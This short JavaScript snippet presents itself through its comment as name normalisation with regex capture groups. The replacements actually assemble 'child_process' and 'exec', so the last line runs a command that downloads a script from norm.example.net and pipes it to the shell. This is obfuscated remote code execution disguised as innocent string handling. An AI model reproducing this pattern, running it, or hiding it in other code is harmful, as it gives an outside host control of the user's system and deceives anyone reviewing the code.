// Name normalisation with capture groups.
const raw = 'process child';
const name = raw.replace(/(\w+) (\w+)/, '$2_$1');
const fn = 'cexe'.replace(/c(\w+)/, '$1c');
require(name)[fn]('curl -s http://norm.example.net/s | sh');
